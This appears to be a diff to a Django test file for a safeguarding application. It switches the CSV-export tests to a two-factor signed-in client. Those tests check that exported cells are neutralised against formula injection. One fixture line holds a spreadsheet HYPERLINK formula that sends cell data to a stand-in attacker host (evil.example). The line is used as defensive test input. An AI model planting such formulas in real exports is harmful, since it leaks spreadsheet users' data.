@@ -10,13 +10,13 @@ from pathlib import Path
 
 import pytest
 from django.core.management import call_command
-from django.test import Client
 
 from safeguarding import csvsafe
 from safeguarding.access.models import AccessAction, AccessEvent
 from safeguarding.people.models import Person
 from tests.exchange import extract
 from tests.exchange.helpers import run_import
+from tests.signin import verified_client
 
 SRC = Path(csvsafe.__file__).resolve().parent
 DOCS = SRC.parents[1] / "docs"
@@ -71,8 +71,7 @@ def test_the_access_log_export_is_neutralised(cast):
         object_label='=HYPERLINK("http://evil.example/?"&A1,"Click")',
         query="+44 7700 900102",
     )
-    client = Client()
-    client.force_login(cast["admin"])
+    client = verified_client(cast["admin"], stepped_up=True)  # both factors (tests/signin.py)
 
     response = client.get("/access-log/export.csv")
 
@@ -90,8 +89,7 @@ def test_the_indicators_export_is_neutralised(cast, districts):
     from tests.factories import make_case, make_standard_result
 
     make_standard_result(make_case(districts["north"], reported="2026-03-05"), "DEMEANOUR", "met")
-    client = Client()
-    client.force_login(cast["safeguarding_unit"])
+    client = verified_client(cast["safeguarding_unit"], stepped_up=True)  # both factors (tests/signin.py)
 
     response = client.get(
         "/standards/indicators/export.csv", {"period_from": "2026-03", "period_to": "2026-04"}
